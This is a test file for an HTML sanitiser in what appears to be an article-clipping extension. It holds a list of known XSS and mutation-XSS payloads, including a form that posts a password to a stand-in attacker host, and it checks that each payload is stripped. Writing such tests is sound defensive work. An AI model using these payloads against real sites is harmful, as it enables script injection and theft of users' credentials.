// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../../../lib/clip/sanitize-html';
import { loadPage } from '../../../helpers/pages';

const { win, doc } = loadPage('<!DOCTYPE html><html><head></head><body></body></html>', 'https://www.example.org/article');

const FORBIDDEN_TAGS = new Set([
  'script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form', 'input', 'button', 'select',
  'textarea', 'meta', 'base', 'link', 'svg', 'math', 'template', 'video', 'audio', 'source', 'picture', 'dialog',
]);
const FORBIDDEN_ATTRS = /^(on.*|style|srcset|sizes|action|formaction|ping|background|poster|usemap|id|name|srcdoc|xlink:href|xmlns:xlink|data-(?!hc-blocked$).*)$/i;
const SAFE_HREF = /^(https?:|mailto:|#)/i;
const SAFE_SRC = /^(https?:|data:image\/)/i;

/** Everything dangerous left in sanitised HTML, as readable problems (empty when safe). */
function problemsIn(html: string): string[] {
  const holder = doc.createElement('div');
  holder.innerHTML = html;
  const problems: string[] = [];
  for (const el of Array.from(holder.querySelectorAll('*'))) {
    const tag = el.localName.toLowerCase();
    if (FORBIDDEN_TAGS.has(tag)) problems.push(`<${tag}> element`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      const value = attr.value.trim();
      if (FORBIDDEN_ATTRS.test(name)) problems.push(`${name} attribute on <${tag}>`);
      if (name === 'href' && !SAFE_HREF.test(value)) problems.push(`unsafe href ${value}`);
      if (name === 'src' && !SAFE_SRC.test(value)) problems.push(`unsafe src ${value}`);
      if (/^\s*(javascript|vbscript|data):/i.test(value) && !(name === 'src' && /^data:image\//i.test(value))) {
        problems.push(`${name}=${value}`);
      }
    }
  }
  return problems;
}

/** Text a reader would see in the sanitised HTML. */
function textOf(html: string): string {
  const holder = doc.createElement('div');
  holder.innerHTML = html;
  return (holder.textContent ?? '').replace(/\s+/g, ' ').trim();
}

/**
 * XSS vectors: [what, input, text that must survive (null when none)].
 * Sources: the OWASP XSS filter evasion cheat sheet, DOMPurify's own tests,
 * and classic mutation-XSS (mXSS) payloads.
 */
const VECTORS: Array<[string, string, string | null]> = [
  ['script element', '<script>alert(1)</script><p>Keep this</p>', 'Keep this'],
  ['script with src', '<script src="https://evil.example/x.js"></script><p>Keep this</p>', 'Keep this'],
  ['img onerror', '<img src="x" onerror="alert(1)" alt="chart"><p>Keep this</p>', 'Keep this'],
  ['on* handler on a paragraph', '<p onclick="alert(1)" onmouseover="alert(2)">Keep this</p>', 'Keep this'],
  ['details ontoggle', '<details open ontoggle="alert(1)"><summary>Keep this</summary></details>', 'Keep this'],
  ['body onload', '<body onload="alert(1)"><p>Keep this</p></body>', 'Keep this'],
  ['javascript: href', '<a href="javascript:alert(1)">Keep this</a>', 'Keep this'],
  ['mixed-case javascript: href', '<a href="JaVaScRiPt:alert(1)">Keep this</a>', 'Keep this'],
  ['entity-encoded javascript: href', '<a href="&#106;&#97;vascript&#58;alert(1)">Keep this</a>', 'Keep this'],
  ['javascript: href with tab and leading space', '<a href=" java\tscript:alert(1)">Keep this</a>', 'Keep this'],
  ['vbscript: href', '<a href="vbscript:msgbox(1)">Keep this</a>', 'Keep this'],
  ['data:text/html href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Keep this</a>', 'Keep this'],
  ['data:image/svg href', '<a href="data:image/svg+xml,<svg onload=alert(1)>">Keep this</a>', 'Keep this'],
  ['javascript: img src', '<img src="javascript:alert(1)" alt="x"><p>Keep this</p>', 'Keep this'],
  ['svg onload', '<svg onload="alert(1)"><circle r="5"></circle></svg><p>Keep this</p>', 'Keep this'],
  ['script inside svg', '<svg><script>alert(1)</script></svg><p>Keep this</p>', 'Keep this'],
  ['svg link with xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">x</text></a></svg><p>Keep this</p>', 'Keep this'],
  ['svg animate that sets href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate><text>x</text></a></svg><p>Keep this</p>', 'Keep this'],
  ['math with a javascript link', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math><p>Keep this</p>', 'Keep this'],
  ['mXSS through math/mglyph/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>Keep this</p>', 'Keep this'],
  ['mXSS through noscript title', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Keep this</p>', 'Keep this'],
  ['mXSS through svg and style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></svg><p>Keep this</p>', 'Keep this'],
  ['iframe', '<iframe src="https://evil.example/"></iframe><p>Keep this</p>', 'Keep this'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>Keep this</p>', 'Keep this'],
  ['frameset', '<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset><p>Keep this</p>', null],
  ['form with inputs', '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form><p>Keep this</p>', 'Keep this'],
  ['autofocus onfocus', '<input autofocus onfocus="alert(1)"><p>Keep this</p>', 'Keep this'],
  ['style attribute (tracking pixel)', '<p style="background:url(https://tracker.example/p.gif)">Keep this</p>', 'Keep this'],
  ['style element with @import', '<style>@import "https://evil.example/x.css"; p { background: url(//t.example/x) }</style><p>Keep this</p>', 'Keep this'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css"><p>Keep this</p>', 'Keep this'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>Keep this</p>', 'Keep this'],
  ['base href', '<base href="https://evil.example/"><p><a href="/page">Keep this</a></p>', 'Keep this'],
  ['object', '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object><p>Keep this</p>', 'Keep this'],
  ['embed', '<embed src="javascript:alert(1)"><p>Keep this</p>', 'Keep this'],
  ['video poster and source', '<video poster="https://tracker.example/p.jpg"><source src="https://evil.example/v.mp4"></video><p>Keep this</p>', 'Keep this'],
  ['table background', '<table background="javascript:alert(1)"><tr><td>Keep this</td></tr></table>', 'Keep this'],
  ['template holding a script', '<template><script>alert(1)</script></template><p>Keep this</p>', 'Keep this'],
  ['data-* attributes (framework bindings)', '<p data-bind="html: alert(1)" data-x="1">Keep this</p>', 'Keep this'],
  ['DOM clobbering with id and name', '<img name="getElementById"><p id="__proto__">Keep this</p><a name="location">x</a>', 'Keep this'],
  ['ping tracker on a link', '<a href="https://example.org/" ping="https://tracker.example/">Keep this</a>', 'Keep this'],
  ['srcset tracker on an image', '<img src="https://cdn.example/a.png" srcset="https://tracker.example/1x.png 1x" alt="x"><p>Keep this</p>', 'Keep this'],
  ['unterminated markup', '<p>Keep this<img src=x onerror=alert(1)//', 'Keep this'],
  ['comment hiding a script', '<!--<script>alert(1)</script>--><p>Keep this</p><!-- --><script>alert(2)</script>', 'Keep this'],
];

describe('sanitizeHtml: XSS vectors', () => {
  it('has at least 25 vectors', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(25);
  });

  it.each(VECTORS)('%s', (_what, input, keep) => {
    const output = sanitizeHtml(input, win);
    expect(problemsIn(output)).toEqual([]);
    expect(output.toLowerCase()).not.toMatch(/<script|<iframe|<svg|<math|javascript:|vbscript:/);
    // Parsing the output again must not turn it into something dangerous (mXSS).
    const holder = doc.createElement('div');
    holder.innerHTML = output;
    expect(problemsIn(holder.innerHTML)).toEqual([]);
    expect(problemsIn(sanitizeHtml(output, win))).toEqual([]);
    if (keep) expect(textOf(output)).toContain(keep);
  });
});

describe('sanitizeHtml: what an article keeps', () => {
  it('keeps headings, paragraphs, lists, tables, quotes, figures and emphasis', () => {
    const input =
      '<h2>Symptoms</h2><p>Feeling <strong>very</strong> <em>thirsty</em>.</p><ul><li>One</li><li>Two</li></ul>' +
      '<ol><li>Three</li></ol><blockquote>Quoted</blockquote><table><thead><tr><th>Test</th></tr></thead><tbody><tr><td>HbA1c</td></tr></tbody></table>' +
      '<figure><img src="https://cdn.example/chart.png" alt="Chart"><figcaption>Caption</figcaption></figure>';
    const output = sanitizeHtml(input, win);
    for (const tag of ['h2', 'p', 'strong', 'em', 'ul', 'ol', 'li', 'blockquote', 'table', 'th', 'td', 'figure', 'img', 'figcaption']) {
      expect(output).toContain(`<${tag}`);
    }
    for (const text of ['Symptoms', 'Feeling very thirsty.', 'One', 'Two', 'Three', 'Quoted', 'HbA1c', 'Caption']) {
      expect(textOf(output)).toContain(text);
    }
    expect(output).toContain('alt="Chart"');
  });

  it('opens outside links in a new tab without referrer, and leaves in-page links alone', () => {
    const output = sanitizeHtml('<a href="https://www.nhs.uk/" target="_self">NHS</a> <a href="mailto:help@example.org">Mail</a> <a href="#symptoms">Jump</a>', win);
    const holder = doc.createElement('div');
    holder.innerHTML = output;
    const [nhs, mail, jump] = Array.from(holder.querySelectorAll('a'));
    expect(nhs?.getAttribute('href')).toBe('https://www.nhs.uk/');
    expect(nhs?.getAttribute('target')).toBe('_blank');
    expect(nhs?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(mail?.getAttribute('href')).toBe('mailto:help@example.org');
    expect(jump?.getAttribute('href')).toBe('#symptoms');
    expect(jump?.hasAttribute('target')).toBe(false);
  });

  it('drops relative image addresses (they would resolve against the extension) and marks images lazy and referrer-free', () => {
    const holder = doc.createElement('div');
    holder.innerHTML = sanitizeHtml('<img src="/img/a.png" alt="Relative"><img src="https://cdn.example/b.png" alt="Remote">', win);
    const [relative, remote] = Array.from(holder.querySelectorAll('img'));
    expect(relative?.hasAttribute('src')).toBe(false);
    expect(relative?.getAttribute('alt')).toBe('Relative');
    expect(remote?.getAttribute('src')).toBe('https://cdn.example/b.png');
    expect(remote?.getAttribute('loading')).toBe('lazy');
    expect(remote?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('returns an empty string for empty or script-only input', () => {
    expect(sanitizeHtml('', win)).toBe('');
    expect(sanitizeHtml('<script>alert(1)</script>', win)).toBe('');
  });
});

describe('sanitizeHtml: blockRemoteImages', () => {
  const input = '<p>Chart:</p><img src="https://cdn.example/chart.png" alt="HbA1c chart"><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">';

  it('removes remote image addresses, keeps alt text and marks the image as blocked', () => {
    const holder = doc.createElement('div');
    holder.innerHTML = sanitizeHtml(input, win, { blockRemoteImages: true });
    const [remote, inline] = Array.from(holder.querySelectorAll('img'));
    expect(remote?.hasAttribute('src')).toBe(false);
    expect(remote?.getAttribute('alt')).toBe('HbA1c chart');
    expect(remote?.hasAttribute('data-hc-blocked')).toBe(true);
    expect(holder.innerHTML).not.toContain('cdn.example');
    // Inline images send nothing anywhere, so they stay.
    expect(inline?.getAttribute('src')).toBe('data:image/png;base64,iVBORw0KGgo=');
    expect(inline?.hasAttribute('data-hc-blocked')).toBe(false);
  });

  it('keeps remote images by default, and the option does not leak into the next call', () => {
    sanitizeHtml(input, win, { blockRemoteImages: true });
    const output = sanitizeHtml(input, win);
    expect(output).toContain('src="https://cdn.example/chart.png"');
    expect(output).not.toContain('data-hc-blocked');
  });

  it('does not let a page pre-set the blocked marker to hide an image from the user', () => {
    const output = sanitizeHtml('<img src="https://cdn.example/a.png" data-hc-blocked alt="a">', win);
    expect(output).toContain('src="https://cdn.example/a.png"');
  });

  it('drops the page\'s <main> and roles but keeps their text, so the reader keeps one main landmark', () => {
    const output = sanitizeHtml('<main role="main"><nav role="navigation"><p>Symptoms of diabetes</p></nav></main>', win);
    expect(output).not.toMatch(/<main|role=/);
    expect(output).toContain('<p>Symptoms of diabetes</p>');
  });
});
